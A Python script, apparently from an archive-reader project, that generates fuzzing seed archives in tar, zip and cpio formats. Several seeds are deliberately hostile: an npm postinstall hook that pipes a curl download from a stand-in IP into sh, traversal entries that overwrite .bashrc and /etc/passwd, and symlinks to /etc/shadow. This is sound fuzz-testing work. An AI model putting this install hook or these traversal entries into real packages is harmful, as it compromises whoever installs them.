#!/usr/bin/env python3
"""Write small archive seeds for fuzz_archive into OUTDIR (binary seeds are generated at run
time rather than committed).

    fuzz/make_seeds.py OUTDIR

One seed per reader path worth reaching: tar (ustar, GNU long name, pax), tar.gz, tar.bz2,
tar.xz, zip (stored, deflated, UTF-8 flag, traversal names), cpio (odc and newc), plus the
hostile shapes: '..' and absolute names, symlinks and hardlinks leaving the tree, a symlink
chain, non-UTF-8 names, a small bomb-like run of zeros, a truncated gzip. Each is a few KB.
Deterministic; standard library only.
"""

import bz2
import gzip
import io
import lzma
import os
import sys
import tarfile
import zipfile

MTIME = 499162500
PACKAGE_JSON = (b'{"name":"seed","version":"1.0.0",'
                b'"scripts":{"postinstall":"node install.js"}}\n')
INSTALL_JS = b"require('child_process').exec('curl -s http://203.0.113.7/i.sh | sh')\n"


def tar_bytes(members, fmt=tarfile.USTAR_FORMAT):
    """members: (name, data) files or (name, None, type, linkname) links. Names may be str
    or raw bytes (kept as bytes via surrogateescape)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt, encoding="utf-8",
                      errors="surrogateescape") as tf:
        for m in members:
            name = m[0].decode("utf-8", "surrogateescape") if isinstance(m[0], bytes) else m[0]
            info = tarfile.TarInfo(name)
            info.mtime = MTIME
            info.mode = 0o644
            if m[1] is None:
                info.type = m[2]
                info.linkname = m[3]
                tf.addfile(info)
            else:
                info.size = len(m[1])
                tf.addfile(info, io.BytesIO(m[1]))
    return out.getvalue()


def gz(data):
    return gzip.compress(data, compresslevel=9, mtime=0)


def zip_bytes(members, utf8_names=False, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method) as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            zi.compress_type = method
            if utf8_names:
                zi.flag_bits |= 0x800
            zf.writestr(zi, data)
    return out.getvalue()


def cpio_odc(members):
    out = io.BytesIO()
    for i, (name, data) in enumerate(members + [("TRAILER!!!", b"")]):
        n = name.encode() + b"\0"
        mode = 0o100644 if name != "TRAILER!!!" else 0
        out.write(b"070707" + b"%06o%06o%06o%06o%06o%06o%06o%011o%06o%011o" % (
            0, i + 1, mode, 0, 0, 1, 0, MTIME, len(n), len(data)))
        out.write(n + data)
    return out.getvalue()


def cpio_newc(members):
    out = io.BytesIO()
    for i, (name, data) in enumerate(members + [("TRAILER!!!", b"")]):
        n = name.encode() + b"\0"
        mode = 0o100644 if name != "TRAILER!!!" else 0
        hdr = b"070701" + b"".join(b"%08X" % v for v in (
            i + 1, mode, 0, 0, 1, MTIME, len(data), 0, 0, 0, 0, len(n), 0))
        out.write(hdr + n)
        out.write(b"\0" * ((4 - (len(hdr) + len(n)) % 4) % 4))
        out.write(data)
        out.write(b"\0" * ((4 - len(data) % 4) % 4))
    return out.getvalue()


def seeds():
    pkg = [("package/package.json", PACKAGE_JSON), ("package/install.js", INSTALL_JS)]
    plain = tar_bytes(pkg)
    yield "npm.tgz", gz(plain)
    yield "npm.tar", plain
    yield "npm.tar.bz2", bz2.compress(plain, 9)
    yield "npm.tar.xz", lzma.compress(plain)
    yield "gnu-longname.tgz", gz(tar_bytes(
        [("package/" + "d" * 120 + "/x.js", b"1;")], fmt=tarfile.GNU_FORMAT))
    yield "pax.tgz", gz(tar_bytes(
        [("package/" + "p" * 150 + "/caf\u00e9.js", b"1;")] + pkg, fmt=tarfile.PAX_FORMAT))
    yield "traversal.tgz", gz(tar_bytes(pkg + [
        ("package/../../.bashrc", b"evil\n"), ("/etc/passwd", b"root::0:0::/:/bin/sh\n")]))
    yield "links.tgz", gz(tar_bytes(pkg + [
        ("package/shadow", None, tarfile.SYMTYPE, "/etc/shadow"),
        ("package/passwd", None, tarfile.LNKTYPE, "/etc/passwd"),
        ("package/inside", None, tarfile.SYMTYPE, "install.js"),
        ("package/x", None, tarfile.SYMTYPE, ".."),
        ("package/x/y", None, tarfile.SYMTYPE, ".."),
        ("package/dir", None, tarfile.DIRTYPE, ""),
        ("package/fifo", None, tarfile.FIFOTYPE, ""),
    ]))
    yield "non-utf8.tgz", gz(tar_bytes([(b"package/\xff\xfe\x80.js", b"1;")], tarfile.GNU_FORMAT))
    yield "zeros.tgz", gz(tar_bytes([("package/zeros.bin", b"\0" * 65536)]))
    yield "truncated.tgz", gz(plain)[:200]
    yield "npm.zip", zip_bytes(pkg)
    yield "stored.zip", zip_bytes(pkg, method=zipfile.ZIP_STORED)
    yield "utf8.whl", zip_bytes([("seed/caf\u00e9.py", b"import os\n"),
                                 ("seed-1.0.dist-info/METADATA", b"Name: seed\n")],
                                utf8_names=True)
    yield "traversal.zip", zip_bytes([("../../.bashrc", b"evil\n"), ("/etc/passwd", b"x")])
    yield "odc.cpio", cpio_odc([("package/package.json", PACKAGE_JSON)])
    yield "newc.cpio", cpio_newc([("package/package.json", PACKAGE_JSON)])
    yield "empty", b""


def main(argv):
    if len(argv) != 1:
        print(__doc__, file=sys.stderr)
        return 2
    os.makedirs(argv[0], exist_ok=True)
    for name, data in seeds():
        with open(os.path.join(argv[0], name), "wb") as f:
            f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
